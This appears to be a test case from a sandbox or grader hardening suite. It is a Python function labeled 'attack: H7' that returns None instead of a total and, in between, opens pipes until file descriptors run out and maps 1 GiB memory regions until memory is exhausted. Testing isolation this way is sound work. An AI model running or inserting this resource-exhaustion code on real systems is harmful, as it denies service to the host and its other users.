# attack: H7
# from: total returns None
# expects: pipes, files and mappings come to an end
def total(x):
    # --- attack
    import mmap
    import os

    kept = []
    try:
        while True:
            kept.append(os.pipe())
    except OSError:
        pass
    try:
        while True:
            kept.append(mmap.mmap(-1, 1 << 30))
            kept[-1][:: 4096] = b"x" * (1 << 18)
    except (OSError, ValueError, MemoryError):
        pass
    # --- end
    return None
